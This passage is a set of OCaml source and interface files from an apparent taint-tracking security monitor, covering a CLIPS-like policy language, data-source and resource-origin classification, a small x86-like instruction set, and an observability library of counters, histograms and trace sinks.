  | List items -> Fmt.pf ppf "(%a)" Fmt.(list ~sep:sp pp) items
