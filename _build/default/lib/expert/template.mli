(** Templates: typed fact schemas (CLIPS [deftemplate]). *)

type slot_def = {
  slot_name : string;
  default : Value.t option;  (** used when an assertion omits the slot *)
}

type t = {
  tpl_name : string;
  tpl_slots : slot_def list;
}

val make : string -> slot_def list -> t

(** [slot ?default name] declares a slot. *)
val slot : ?default:Value.t -> string -> slot_def

(** [normalize t given] checks [given] against the template: unknown slots
    are an error; missing slots take their default (or [Sym "nil"]).
    The result preserves the template's slot order. *)
val normalize :
  t -> (string * Value.t) list -> ((string * Value.t) list, string) result
