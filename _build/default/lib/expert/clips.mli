(** A loader for a CLIPS-like textual policy language.

    Supports the subset exercised by the paper's Appendix A:
    - [(deftemplate name (slot s) ...)] with optional [(default v)];
    - [(defglobal ?*name* = value)];
    - [(defrule name "doc" lhs... => action...)] where the LHS mixes
      patterns, fact bindings [?f <- (pattern)] and [(test expr)]
      conditional elements, and actions include [assert], [retract],
      [printout], [bind] and [if/then/else];
    - [(deffunction name (?a ?b) expr...)] — in-language helper
      functions, callable from tests and actions;
    - toplevel [(assert (template (slot v)...))].

    Expressions call built-in functions ([eq], [neq], [<], [>], [and],
    [or], [not], [+], [-], [*], [str-cat], [empty-list], [length]) or host
    functions registered with {!Engine.defun} — the paper's policy relies
    on host functions [filter_binary] and [filter_socket]. *)

exception Error of string

(** [load engine text] parses and installs every form in [text].
    @raise Error on syntax or semantic problems. *)
val load : Engine.t -> string -> unit

(** [eval engine expr_text] parses one expression and evaluates it with no
    variable bindings (globals are visible); useful in tests. *)
val eval : Engine.t -> string -> Value.t

(** [install_builtins engine] registers the built-in function set; [load]
    calls it automatically. *)
val install_builtins : Engine.t -> unit
