(** A small s-expression reader for CLIPS-style policy text. *)

type t =
  | Atom of string  (** bare token, e.g. [defrule], [?name], [42] *)
  | Quoted of string  (** double-quoted string with escapes *)
  | List of t list

exception Parse_error of string

(** [parse_all s] reads every toplevel form in [s].  Comments run from
    [;] to end of line.  @raise Parse_error on malformed input. *)
val parse_all : string -> t list

(** [parse s] reads exactly one form. *)
val parse : string -> t

val pp : Format.formatter -> t -> unit
