(** Patterns: the left-hand side of rules.

    A pattern matches facts of one template, slot by slot.  Variables bind
    on first occurrence and must agree on later occurrences (within one
    pattern or across the patterns of a rule). *)

type test =
  | Anything  (** the wildcard [?] *)
  | Lit of Value.t  (** a literal that must be equal *)
  | Var of string  (** a variable: binds or checks consistency *)
  | Pred of string * (Value.t -> bool)
      (** a named host predicate on the slot value *)

type t = {
  p_template : string;
  p_binding : string option;  (** CLIPS [?f <- (pattern)] fact binding *)
  p_slots : (string * test) list;
}

(** Bindings accumulated while matching; fact bindings are stored as
    [Int fact-id] under the binding variable. *)
type bindings = (string * Value.t) list

val make : ?binding:string -> string -> (string * test) list -> t

(** [match_fact p b f] extends bindings [b] if [f] matches [p]. *)
val match_fact : t -> bindings -> Fact.t -> bindings option

(** [lookup b var] is the value bound to [var]. *)
val lookup : bindings -> string -> Value.t option

val pp : Format.formatter -> t -> unit
