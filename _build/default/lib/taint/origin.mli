(** Resource-ID origin classification (Section 5.1, Table 2).

    When a resource is accessed (a file opened, a socket connected, a
    program executed) the policy needs to know where the resource {e name}
    itself came from: was it hard-coded in a binary, typed by the user,
    read from a file, or received over a socket?  The origin is computed
    from the tag of the name's bytes. *)

type kind =
  | From_user  (** the name was given by the user *)
  | From_file of string  (** the name was read from the given file *)
  | From_socket of string  (** the name arrived over the given socket *)
  | Hardcoded of string  (** the name is embedded in the given binary *)
  | From_hardware  (** the name was produced by hardware *)
  | Unknown  (** no provenance information (e.g. computed constants) *)

val equal_kind : kind -> kind -> bool

val pp_kind : Format.formatter -> kind -> unit

(** The paper's type label for a kind: USER_INPUT, FILE, SOCKET, BINARY,
    HARDWARE or UNKNOWN (footnote 4 allows UNKNOWN for prototypes). *)
val kind_type_name : kind -> string

(** [classify ~trusted tag] is the dominant origin of a resource name whose
    bytes carry [tag].  Sources for which [trusted] holds are ignored (the
    paper filters trusted binaries such as libc.so).  Dominance order —
    chosen so that the most suspicious origin wins, mirroring the policy's
    severity ordering: socket > untrusted binary > file > hardware >
    user input > unknown. *)
val classify : trusted:(Source.t -> bool) -> Tagset.t -> kind

(** [classify_all ~trusted tag] is every applicable origin kind, most
    suspicious first; [classify] is its head. *)
val classify_all : trusted:(Source.t -> bool) -> Tagset.t -> kind list

(** [combinations] enumerates the legal (data source type, resource-ID
    origin type) pairs of Table 2: USER_INPUT, BINARY and HARDWARE data
    carry no resource ID, while FILE and SOCKET data have names that may
    originate from USER_INPUT, FILE, SOCKET or BINARY. *)
val combinations : (string * string option) list
