type t =
  | User_input
  | File of string
  | Socket of string
  | Binary of string
  | Hardware

let rank = function
  | User_input -> 0
  | File _ -> 1
  | Socket _ -> 2
  | Binary _ -> 3
  | Hardware -> 4

let compare a b =
  match a, b with
  | User_input, User_input | Hardware, Hardware -> 0
  | File x, File y | Socket x, Socket y | Binary x, Binary y ->
    String.compare x y
  | _ -> Int.compare (rank a) (rank b)

let equal a b = compare a b = 0

let type_name = function
  | User_input -> "USER_INPUT"
  | File _ -> "FILE"
  | Socket _ -> "SOCKET"
  | Binary _ -> "BINARY"
  | Hardware -> "HARDWARE"

let resource_name = function
  | User_input | Hardware -> None
  | File n | Socket n | Binary n -> Some n

let pp ppf t =
  match resource_name t with
  | None -> Fmt.string ppf (type_name t)
  | Some n -> Fmt.pf ppf "%s(%S)" (type_name t) n

let to_string = Fmt.to_to_string pp
