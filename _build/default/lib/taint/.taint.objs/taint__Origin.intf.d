lib/taint/origin.mli: Format Source Tagset
