lib/taint/source.mli: Format
