lib/taint/source.ml: Fmt Int String
