lib/taint/tagset.ml: Fmt List Set Source
