lib/taint/tagset.mli: Format Source
