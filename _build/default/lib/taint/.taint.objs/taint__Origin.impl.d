lib/taint/origin.ml: Fmt List String Tagset
