module S = Set.Make (Source)

type t = S.t

let empty = S.empty
let is_empty = S.is_empty
let singleton = S.singleton
let of_list = S.of_list
let to_list = S.elements
let add = S.add
let union = S.union
let mem = S.mem
let equal = S.equal
let compare = S.compare
let cardinal = S.cardinal
let exists = S.exists
let filter = S.filter
let fold = S.fold

let has_user_input t = S.mem User_input t
let has_hardware t = S.mem Hardware t

let select f t = S.fold (fun s acc -> match f s with Some x -> x :: acc | None -> acc) t []

let binaries t =
  select (function Source.Binary n -> Some n | _ -> None) t |> List.rev

let files t =
  select (function Source.File n -> Some n | _ -> None) t |> List.rev

let sockets t =
  select (function Source.Socket n -> Some n | _ -> None) t |> List.rev

let pp ppf t =
  Fmt.pf ppf "@[<h>{%a}@]" Fmt.(list ~sep:(any ", ") Source.pp) (to_list t)

let to_string = Fmt.to_to_string pp
