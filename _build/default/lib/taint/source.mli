(** Data sources (Section 5.1 of the paper).

    HTH maintains more than a single taint bit: every register and memory
    byte is tagged with a {e set} of data sources.  A source records both
    the resource {e type} and, where applicable, the resource {e name}, so
    the policy can distinguish trusted resources and report precise
    provenance to the user. *)

type t =
  | User_input  (** data typed by the user: stdin, argv, environment *)
  | File of string  (** data read from the named file *)
  | Socket of string  (** data received from the named peer address *)
  | Binary of string
      (** data embedded in the named loaded image (hard-coded values) *)
  | Hardware  (** data produced by hardware, e.g. the [cpuid] instruction *)

(** Total order, used to store sources in sets. *)
val compare : t -> t -> int

val equal : t -> t -> bool

(** [type_name s] is the paper's resource-type label for [s]:
    ["USER_INPUT"], ["FILE"], ["SOCKET"], ["BINARY"] or ["HARDWARE"]. *)
val type_name : t -> string

(** [resource_name s] is the resource identifier carried by [s], if any
    (file path, socket address or image path). *)
val resource_name : t -> string option

val pp : Format.formatter -> t -> unit

val to_string : t -> string
