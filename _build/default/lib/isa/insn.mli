(** The instruction set.

    A deliberately small 32-bit ISA sufficient for the guest corpus: data
    movement, ALU, stack, control transfer, the [int 0x80] system-call
    gate and [cpuid] (the paper's example of a HARDWARE data source).
    Instructions occupy one address unit each, so basic-block boundaries
    and event code addresses are instruction-granular. *)

type size =
  | B  (** byte *)
  | W  (** 32-bit word *)

type cond = Z | NZ | L | LE | G | GE | S | NS

type t =
  | Mov of size * Operand.t * Operand.t  (** [Mov (sz, dst, src)] *)
  | Lea of Reg.t * Operand.mem_ref  (** load effective address *)
  | Add of Operand.t * Operand.t
  | Sub of Operand.t * Operand.t
  | And of Operand.t * Operand.t
  | Or of Operand.t * Operand.t
  | Xor of Operand.t * Operand.t
  | Mul of Operand.t * Operand.t  (** [dst <- dst * src] *)
  | Div of Operand.t * Operand.t  (** [dst <- dst / src]; div-by-0 faults *)
  | Shl of Operand.t * Operand.t
  | Shr of Operand.t * Operand.t
  | Inc of Operand.t
  | Dec of Operand.t
  | Cmp of size * Operand.t * Operand.t  (** sets flags from [a - b] *)
  | Test of Operand.t * Operand.t  (** sets flags from [a land b] *)
  | Push of Operand.t
  | Pop of Operand.t
  | Jmp of Operand.t  (** absolute target: immediate, register or memory *)
  | Jcc of cond * Operand.t  (** conditional absolute jump *)
  | Call of Operand.t  (** pushes return address *)
  | Ret
  | Int of int  (** software interrupt; [Int 0x80] is the syscall gate *)
  | Cpuid  (** writes processor identity into eax..edx, HARDWARE-tagged *)
  | Nop
  | Hlt  (** halts the process (used as a guard after main) *)

val cond_name : cond -> string

(** [writes_control_flow i] is true for jumps, calls, returns, [Int] and
    [Hlt] — the instructions that terminate a basic block. *)
val writes_control_flow : t -> bool

val pp : Format.formatter -> t -> unit

val to_string : t -> string
