(** General-purpose registers of the mini x86-like ISA.

    The register file mirrors the 32-bit x86 registers the paper's examples
    use ([mov %esp,%ebp], [add %ebx,%eax], [cpuid] writing
    [%eax]..[%edx]). *)

type t = EAX | EBX | ECX | EDX | ESI | EDI | EBP | ESP

(** Number of registers; indices are dense in [0, count). *)
val count : int

(** [index r] is a dense index suitable for array-backed register files. *)
val index : t -> int

val of_index : int -> t

val equal : t -> t -> bool

val all : t list

val name : t -> string

val pp : Format.formatter -> t -> unit
