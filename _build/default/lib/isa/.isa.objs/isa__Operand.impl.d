lib/isa/operand.ml: Fmt Reg
