lib/isa/insn.mli: Format Operand Reg
