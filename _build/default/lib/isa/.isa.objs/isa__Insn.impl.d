lib/isa/insn.ml: Fmt Operand Reg
