type mem_ref = {
  base : Reg.t option;
  index : Reg.t option;
  scale : int;
  disp : int;
}

type t =
  | Imm of int
  | Reg of Reg.t
  | Mem of mem_ref

let mem ?base ?index ?(scale = 1) disp = Mem { base; index; scale; disp }
let abs addr = mem addr
let ind r = mem ~base:r 0
let ind_off r off = mem ~base:r off

let pp_mem_ref ppf { base; index; scale; disp } =
  let pp_base ppf = function
    | None -> ()
    | Some r -> Reg.pp ppf r
  in
  match index with
  | None -> Fmt.pf ppf "0x%x(%a)" disp pp_base base
  | Some i -> Fmt.pf ppf "0x%x(%a,%a,%d)" disp pp_base base Reg.pp i scale

let pp ppf = function
  | Imm n -> Fmt.pf ppf "$0x%x" n
  | Reg r -> Reg.pp ppf r
  | Mem m -> pp_mem_ref ppf m
