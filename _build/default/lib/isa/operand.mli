(** Operands and addressing modes. *)

(** A memory reference [disp + base + index * scale]. *)
type mem_ref = {
  base : Reg.t option;
  index : Reg.t option;
  scale : int;  (** multiplier for [index]; 1, 2 or 4 *)
  disp : int;  (** constant displacement *)
}

type t =
  | Imm of int  (** immediate constant (hard-coded in the binary) *)
  | Reg of Reg.t
  | Mem of mem_ref

(** [mem ?base ?index ?scale disp] builds a memory reference. *)
val mem : ?base:Reg.t -> ?index:Reg.t -> ?scale:int -> int -> t

(** [abs addr] is an absolute memory operand. *)
val abs : int -> t

(** [ind r] is the register-indirect operand [(%r)]. *)
val ind : Reg.t -> t

(** [ind_off r off] is [off(%r)]. *)
val ind_off : Reg.t -> int -> t

val pp_mem_ref : Format.formatter -> mem_ref -> unit

val pp : Format.formatter -> t -> unit
