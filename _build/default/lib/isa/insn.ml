type size = B | W

type cond = Z | NZ | L | LE | G | GE | S | NS

type t =
  | Mov of size * Operand.t * Operand.t
  | Lea of Reg.t * Operand.mem_ref
  | Add of Operand.t * Operand.t
  | Sub of Operand.t * Operand.t
  | And of Operand.t * Operand.t
  | Or of Operand.t * Operand.t
  | Xor of Operand.t * Operand.t
  | Mul of Operand.t * Operand.t
  | Div of Operand.t * Operand.t
  | Shl of Operand.t * Operand.t
  | Shr of Operand.t * Operand.t
  | Inc of Operand.t
  | Dec of Operand.t
  | Cmp of size * Operand.t * Operand.t
  | Test of Operand.t * Operand.t
  | Push of Operand.t
  | Pop of Operand.t
  | Jmp of Operand.t
  | Jcc of cond * Operand.t
  | Call of Operand.t
  | Ret
  | Int of int
  | Cpuid
  | Nop
  | Hlt

let cond_name = function
  | Z -> "z"
  | NZ -> "nz"
  | L -> "l"
  | LE -> "le"
  | G -> "g"
  | GE -> "ge"
  | S -> "s"
  | NS -> "ns"

let writes_control_flow = function
  | Jmp _ | Jcc _ | Call _ | Ret | Int _ | Hlt -> true
  | Mov _ | Lea _ | Add _ | Sub _ | And _ | Or _ | Xor _ | Mul _ | Div _
  | Shl _ | Shr _ | Inc _ | Dec _ | Cmp _ | Test _ | Push _ | Pop _ | Cpuid
  | Nop -> false

let size_suffix = function B -> "b" | W -> "l"

let pp ppf t =
  let op = Operand.pp in
  let bin name a b = Fmt.pf ppf "%s %a,%a" name op b op a in
  match t with
  | Mov (sz, dst, src) -> bin ("mov" ^ size_suffix sz) dst src
  | Lea (r, m) -> Fmt.pf ppf "lea %a,%a" Operand.pp_mem_ref m Reg.pp r
  | Add (a, b) -> bin "add" a b
  | Sub (a, b) -> bin "sub" a b
  | And (a, b) -> bin "and" a b
  | Or (a, b) -> bin "or" a b
  | Xor (a, b) -> bin "xor" a b
  | Mul (a, b) -> bin "imul" a b
  | Div (a, b) -> bin "idiv" a b
  | Shl (a, b) -> bin "shl" a b
  | Shr (a, b) -> bin "shr" a b
  | Inc a -> Fmt.pf ppf "inc %a" op a
  | Dec a -> Fmt.pf ppf "dec %a" op a
  | Cmp (sz, a, b) -> bin ("cmp" ^ size_suffix sz) a b
  | Test (a, b) -> bin "test" a b
  | Push a -> Fmt.pf ppf "push %a" op a
  | Pop a -> Fmt.pf ppf "pop %a" op a
  | Jmp t -> Fmt.pf ppf "jmp %a" op t
  | Jcc (c, t) -> Fmt.pf ppf "j%s %a" (cond_name c) op t
  | Call t -> Fmt.pf ppf "call %a" op t
  | Ret -> Fmt.string ppf "ret"
  | Int n -> Fmt.pf ppf "int $0x%x" n
  | Cpuid -> Fmt.string ppf "cpuid"
  | Nop -> Fmt.string ppf "nop"
  | Hlt -> Fmt.string ppf "hlt"

let to_string = Fmt.to_to_string pp
