(* Zero-dependency observability: counters, histograms, span timers and
   a pluggable structured-event sink.

   Discipline: the disabled paths must be free.  [Counter.incr] is a
   domain-local array store (safe on per-instruction paths), and trace
   emission sites guard on [Trace.enabled] *before* building their field
   lists, so the no-op sink allocates nothing.  Wall-clock time never
   enters the trace — only the monotone step index — so traces of a
   deterministic simulation are byte-identical across runs; timings go
   to histograms, which surface in stats only.

   Multi-domain model (the fleet executor runs sessions on worker
   domains): handles — counter and histogram identities — are global,
   registered once under a mutex so every domain agrees on names and
   slots.  Every *mutable* cell is domain-local, reached through one
   [Domain.DLS] key per kind: a domain increments only its own cells,
   installs only its own trace sink, and snapshots only its own state.
   Nothing in the hot path takes a lock or issues an atomic
   read-modify-write; two domains never write the same cell.  A worker
   hands its finished shard to the coordinator as an {!export}, and
   {!absorb} folds shards into the calling domain's cells — int sums,
   so the merged counters are independent of how sessions were
   partitioned across workers. *)

type value = Int of int | Str of string | Bool of bool

(* Registration lock: guards the name->handle registries and slot
   allocation for counters and histograms.  Never taken by [incr],
   [add], [observe] or [Trace.emit]. *)
let reg_mu = Mutex.create ()

let locked f =
  Mutex.lock reg_mu;
  match f () with
  | v ->
    Mutex.unlock reg_mu;
    v
  | exception e ->
    Mutex.unlock reg_mu;
    raise e

(* ------------------------------------------------------------------ *)
(* Counters                                                            *)

module Counter = struct
  (* A handle is just a name and a slot into each domain's cell
     array.  Cells live behind DLS so [incr] from concurrent domains
     touch disjoint memory. *)
  type t = { name : string; slot : int }

  let registry : (string, t) Hashtbl.t = Hashtbl.create 64
  let next_slot = ref 0

  (* Family bookkeeping backs the counter-name stability gate: a
     [labeled base label] call registers the family [base ^ ".*"], and
     the generated member name is excluded from the stable-name set
     (members are data-dependent — syscall names, rule names — while
     the family itself is part of the observable interface). *)
  let families : (string, unit) Hashtbl.t = Hashtbl.create 16
  let members : (string, unit) Hashtbl.t = Hashtbl.create 64

  let cells_key : int array Domain.DLS.key =
    Domain.DLS.new_key (fun () -> [||])

  let make_locked name =
    match Hashtbl.find_opt registry name with
    | Some c -> c
    | None ->
      let c = { name; slot = !next_slot } in
      incr next_slot;
      Hashtbl.add registry name c;
      c

  let make name = locked (fun () -> make_locked name)

  let labeled base label =
    let name = base ^ "." ^ label in
    locked (fun () ->
        if not (Hashtbl.mem families (base ^ ".*")) then
          Hashtbl.replace families (base ^ ".*") ();
        if not (Hashtbl.mem members name) then Hashtbl.replace members name ();
        make_locked name)

  (* Grow this domain's cell array to cover [slot].  Out of line: the
     fast path is one DLS read, one bounds check and one store. *)
  let[@inline never] grow slot =
    let a = Domain.DLS.get cells_key in
    let n = max (slot + 1) (max (2 * Array.length a) 64) in
    let b = Array.make n 0 in
    Array.blit a 0 b 0 (Array.length a);
    Domain.DLS.set cells_key b;
    b

  let[@inline] cells slot =
    let a = Domain.DLS.get cells_key in
    if slot < Array.length a then a else grow slot

  let[@inline] incr t =
    let a = cells t.slot in
    Array.unsafe_set a t.slot (Array.unsafe_get a t.slot + 1)

  let[@inline] add t n =
    let a = cells t.slot in
    Array.unsafe_set a t.slot (Array.unsafe_get a t.slot + n)

  let value t =
    let a = Domain.DLS.get cells_key in
    if t.slot < Array.length a then a.(t.slot) else 0

  let name t = t.name
end

(* ------------------------------------------------------------------ *)
(* Histograms (count / sum / min / max, plus a deterministic sample
   reservoir for percentiles)                                          *)

module Histogram = struct
  (* Percentiles come from a decimating reservoir: keep every
     [stride]-th observation; when the buffer fills, drop every other
     kept sample and double the stride.  No randomness — the kept set
     is a pure function of the observation sequence, so percentile
     output is reproducible run to run (for deterministic inputs). *)
  let reservoir_cap = 512

  (* The domain-local mutable state of one histogram. *)
  type state = {
    mutable count : int;
    mutable sum : float;
    mutable min : float;
    mutable max : float;
    samples : float array;
    mutable kept : int;
    mutable stride : int;
    mutable pending : int;
  }

  type t = { h_name : string; h_slot : int }

  let registry : (string, t) Hashtbl.t = Hashtbl.create 16
  let next_slot = ref 0

  let fresh_state () =
    { count = 0; sum = 0.; min = infinity; max = neg_infinity;
      samples = Array.make reservoir_cap 0.; kept = 0; stride = 1;
      pending = 0 }

  let states_key : state array Domain.DLS.key =
    Domain.DLS.new_key (fun () -> [||])

  let make name =
    locked (fun () ->
        match Hashtbl.find_opt registry name with
        | Some h -> h
        | None ->
          let h = { h_name = name; h_slot = !next_slot } in
          incr next_slot;
          Hashtbl.add registry name h;
          h)

  let[@inline never] grow slot =
    let a = Domain.DLS.get states_key in
    let n = max (slot + 1) (max (2 * Array.length a) 16) in
    let b = Array.init n (fun i ->
        if i < Array.length a then a.(i) else fresh_state ())
    in
    Domain.DLS.set states_key b;
    b

  let state h =
    let a = Domain.DLS.get states_key in
    let a = if h.h_slot < Array.length a then a else grow h.h_slot in
    a.(h.h_slot)

  let keep s x =
    if s.kept = reservoir_cap then begin
      let half = reservoir_cap / 2 in
      for i = 0 to half - 1 do
        s.samples.(i) <- s.samples.(2 * i)
      done;
      s.kept <- half;
      s.stride <- s.stride * 2
    end;
    s.samples.(s.kept) <- x;
    s.kept <- s.kept + 1

  (* Push one value through the decimating reservoir only — used by
     [observe] and by shard absorption (which merges count/sum/min/max
     exactly and re-feeds the kept samples). *)
  let keep_sample s x =
    s.pending <- s.pending + 1;
    if s.pending >= s.stride then begin
      s.pending <- 0;
      keep s x
    end

  let observe h x =
    let s = state h in
    s.count <- s.count + 1;
    s.sum <- s.sum +. x;
    if x < s.min then s.min <- x;
    if x > s.max then s.max <- x;
    keep_sample s x

  (* Drop the calling domain's state for [h] — fresh interval
     measurement without disturbing any other histogram or domain. *)
  let reset h =
    let a = Domain.DLS.get states_key in
    if h.h_slot < Array.length a then a.(h.h_slot) <- fresh_state ()

  let name h = h.h_name
  let count h = (state h).count
  let sum h = (state h).sum

  let mean h =
    let s = state h in
    if s.count = 0 then 0. else s.sum /. float_of_int s.count

  let minimum h =
    let s = state h in
    if s.count = 0 then 0. else s.min

  let maximum h =
    let s = state h in
    if s.count = 0 then 0. else s.max

  (* Nearest-rank percentile over the sorted kept samples. *)
  let percentile h p =
    let s = state h in
    if s.kept = 0 then 0.
    else begin
      let sorted = Array.sub s.samples 0 s.kept in
      Array.sort Float.compare sorted;
      let rank =
        int_of_float (ceil (p /. 100. *. float_of_int s.kept)) - 1
      in
      let rank = if rank < 0 then 0 else rank in
      let rank = if rank > s.kept - 1 then s.kept - 1 else rank in
      sorted.(rank)
    end
end

(* ------------------------------------------------------------------ *)
(* Span timers: wall-clock durations recorded into histograms.  The
   clock is pluggable ([Sys.time] by default, so the library stays
   dependency-free); durations are observability data, never trace
   data.                                                               *)

module Span = struct
  (* Configure the clock before spawning worker domains; it is read
     concurrently afterwards. *)
  let clock = ref Sys.time

  let set_clock f = clock := f

  let time h f =
    let t0 = !clock () in
    let finish () = Histogram.observe h (!clock () -. t0) in
    match f () with
    | v ->
      finish ();
      v
    | exception e ->
      finish ();
      raise e
end

(* ------------------------------------------------------------------ *)
(* Registry snapshots                                                  *)

type snapshot = (string * int) list

let counter_handles () =
  locked (fun () ->
      Hashtbl.fold (fun _ c acc -> c :: acc) Counter.registry [])

let snapshot () : snapshot =
  let cells = Domain.DLS.get Counter.cells_key in
  let len = Array.length cells in
  counter_handles ()
  |> List.map (fun (c : Counter.t) ->
         c.name, if c.slot < len then cells.(c.slot) else 0)
  |> List.sort (fun (a, _) (b, _) -> String.compare a b)

(* Counters only ever grow (gauges aside), so [diff] reports the
   per-interval activity: [after - before], dropping untouched
   counters. *)
let diff ~(before : snapshot) ~(after : snapshot) : snapshot =
  let base = Hashtbl.create (List.length before) in
  List.iter (fun (n, v) -> Hashtbl.replace base n v) before;
  List.filter_map
    (fun (n, v) ->
      let d = v - (match Hashtbl.find_opt base n with Some b -> b | None -> 0)
      in
      if d = 0 then None else Some (n, d))
    after

let histograms () =
  locked (fun () ->
      Hashtbl.fold (fun _ h acc -> h :: acc) Histogram.registry [])
  |> List.sort (fun a b ->
         String.compare a.Histogram.h_name b.Histogram.h_name)

(* The stable counter-name surface: every directly-registered counter
   name, with [Counter.labeled]-generated members collapsed into their
   [base.*] family.  This is what trace consumers and dashboards key
   on, and what the stability test snapshots. *)
let counter_families () =
  locked (fun () ->
      let stable =
        Hashtbl.fold
          (fun name _ acc ->
            if Hashtbl.mem Counter.members name then acc else name :: acc)
          Counter.registry []
      in
      let fams =
        Hashtbl.fold (fun f () acc -> f :: acc) Counter.families []
      in
      List.sort String.compare (stable @ fams))

(* ------------------------------------------------------------------ *)
(* Shard export / merge                                                *)

(* A worker domain's whole observability state, as finished data: the
   nonzero counter cells and the non-empty histogram states, each keyed
   by its (shared) handle.  [absorb] folds an export into the calling
   domain's own cells; folding worker shards in worker-index order
   makes the merge a deterministic function of the shard contents.
   Counter merge is integer addition, so the totals are additionally
   independent of how sessions were partitioned across workers;
   histogram reservoirs are re-decimated, so percentile summaries are
   deterministic for the given shards but — like any bounded sample —
   approximate. *)
type hexport = {
  xh_count : int;
  xh_sum : float;
  xh_min : float;
  xh_max : float;
  xh_samples : float array;  (* kept samples, oldest first *)
}

type export = {
  x_counters : (Counter.t * int) list;  (* sorted by name *)
  x_hists : (Histogram.t * hexport) list;  (* sorted by name *)
}

let export () =
  let cells = Domain.DLS.get Counter.cells_key in
  let len = Array.length cells in
  let x_counters =
    counter_handles ()
    |> List.filter_map (fun (c : Counter.t) ->
           if c.slot < len && cells.(c.slot) <> 0 then
             Some (c, cells.(c.slot))
           else None)
    |> List.sort (fun ((a : Counter.t), _) (b, _) ->
           String.compare a.name b.name)
  in
  let x_hists =
    histograms ()
    |> List.filter_map (fun h ->
           let s = Histogram.state h in
           if s.Histogram.count = 0 then None
           else
             Some
               ( h,
                 { xh_count = s.Histogram.count; xh_sum = s.Histogram.sum;
                   xh_min = s.Histogram.min; xh_max = s.Histogram.max;
                   xh_samples = Array.sub s.Histogram.samples 0
                       s.Histogram.kept } ))
  in
  { x_counters; x_hists }

let absorb x =
  List.iter (fun (c, v) -> Counter.add c v) x.x_counters;
  List.iter
    (fun (h, xs) ->
      let s = Histogram.state h in
      s.Histogram.count <- s.Histogram.count + xs.xh_count;
      s.Histogram.sum <- s.Histogram.sum +. xs.xh_sum;
      if xs.xh_min < s.Histogram.min then s.Histogram.min <- xs.xh_min;
      if xs.xh_max > s.Histogram.max then s.Histogram.max <- xs.xh_max;
      Array.iter (Histogram.keep_sample s) xs.xh_samples)
    x.x_hists

(* ------------------------------------------------------------------ *)
(* Structured-event trace sink                                         *)

module Trace = struct
  (* Where emitted lines should end up.  A first-class value so callers
     (the engine, the fleet executor, the segment store) can hand a
     destination across an API boundary without owning the install /
     disable lifecycle themselves. *)
  type target =
    | T_buffer of Buffer.t
    | T_chunks of { threshold : int; write : string -> unit }

  (* The installed sink.  [Direct] renders straight into the caller's
     destination buffer — zero copies, zero per-line allocation.
     [Chunked] renders into one reused staging buffer and hands
     line-aligned chunks of at least [threshold] bytes to [write]:
     channel sinks pay one [output_string] per ~64KiB instead of two
     system-visible writes per event, and the segment store receives
     its data frames pre-chunked. *)
  type sink =
    | Noop
    | Direct of Buffer.t
    | Chunked of { buf : Buffer.t; threshold : int; write : string -> unit }

  (* One sink and step index per domain: a fleet worker traces its own
     session into its own buffer without synchronizing with anyone. *)
  type state = { mutable sink : sink; mutable step : int }

  let state_key : state Domain.DLS.key =
    Domain.DLS.new_key (fun () -> { sink = Noop; step = 0 })

  let[@inline] state () = Domain.DLS.get state_key

  let[@inline] enabled () =
    match (state ()).sink with Noop -> false | Direct _ | Chunked _ -> true

  let default_chunk = 64 * 1024

  let buffer_target b = T_buffer b

  let chunk_target ?(threshold = default_chunk) write =
    T_chunks { threshold; write }

  let channel_target oc =
    chunk_target (fun chunk -> output_string oc chunk)

  let install target =
    let st = state () in
    (st.sink <-
       (match target with
       | T_buffer b -> Direct b
       | T_chunks { threshold; write } ->
         Chunked { buf = Buffer.create (threshold + 512); threshold; write }));
    st.step <- 0

  let to_channel oc = install (channel_target oc)
  let to_buffer b = install (buffer_target b)

  (* Flush-on-disable: a chunked sink may hold a partial chunk; hand it
     over before dropping the sink so the destination sees every line.
     Callers that [close_out] after [disable] keep working unchanged. *)
  let disable () =
    let st = state () in
    (match st.sink with
    | Chunked { buf; write; _ } when Buffer.length buf > 0 ->
      write (Buffer.contents buf);
      Buffer.clear buf
    | Noop | Direct _ | Chunked _ -> ());
    st.sink <- Noop

  let steps () = (state ()).step

  let add_escaped buf s =
    String.iter
      (fun c ->
        match c with
        | '"' -> Buffer.add_string buf "\\\""
        | '\\' -> Buffer.add_string buf "\\\\"
        | '\n' -> Buffer.add_string buf "\\n"
        | '\r' -> Buffer.add_string buf "\\r"
        | '\t' -> Buffer.add_string buf "\\t"
        | c when Char.code c < 0x20 ->
          Buffer.add_string buf (Printf.sprintf "\\u%04x" (Char.code c))
        | c -> Buffer.add_char buf c)
      s

  let add_value buf = function
    | Int n -> Buffer.add_string buf (string_of_int n)
    | Bool b -> Buffer.add_string buf (if b then "true" else "false")
    | Str s ->
      Buffer.add_char buf '"';
      add_escaped buf s;
      Buffer.add_char buf '"'

  (* Render one line, newline included, directly into [buf] — the
     destination itself for [Direct] sinks, the reused staging buffer
     for [Chunked] ones.  No per-line [Buffer.create], no intermediate
     [Buffer.contents] string. *)
  let render buf st ev fields =
    Buffer.add_string buf "{\"step\":";
    Buffer.add_string buf (string_of_int st.step);
    Buffer.add_string buf ",\"ev\":\"";
    add_escaped buf ev;
    Buffer.add_char buf '"';
    List.iter
      (fun (k, v) ->
        Buffer.add_string buf ",\"";
        add_escaped buf k;
        Buffer.add_string buf "\":";
        add_value buf v)
      fields;
    Buffer.add_char buf '}';
    Buffer.add_char buf '\n';
    st.step <- st.step + 1

  let emit ev fields =
    let st = state () in
    match st.sink with
    | Noop -> ()
    | Direct buf -> render buf st ev fields
    | Chunked { buf; threshold; write } ->
      render buf st ev fields;
      if Buffer.length buf >= threshold then begin
        write (Buffer.contents buf);
        Buffer.clear buf
      end
end
