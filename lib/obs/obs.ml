(* Zero-dependency observability: counters, histograms, span timers and
   a pluggable structured-event sink.

   Discipline: the disabled paths must be free.  [Counter.incr] is a
   single unboxed field write (safe on per-instruction paths), and trace
   emission sites guard on [Trace.enabled] *before* building their field
   lists, so the no-op sink allocates nothing.  Wall-clock time never
   enters the trace — only the monotone step index — so traces of a
   deterministic simulation are byte-identical across runs; timings go
   to histograms, which surface in stats only. *)

type value = Int of int | Str of string | Bool of bool

(* ------------------------------------------------------------------ *)
(* Counters                                                            *)

module Counter = struct
  type t = { name : string; mutable v : int }

  let registry : (string, t) Hashtbl.t = Hashtbl.create 64

  (* Family bookkeeping backs the counter-name stability gate: a
     [labeled base label] call registers the family [base ^ ".*"], and
     the generated member name is excluded from the stable-name set
     (members are data-dependent — syscall names, rule names — while
     the family itself is part of the observable interface). *)
  let families : (string, unit) Hashtbl.t = Hashtbl.create 16
  let members : (string, unit) Hashtbl.t = Hashtbl.create 64

  let make name =
    match Hashtbl.find_opt registry name with
    | Some c -> c
    | None ->
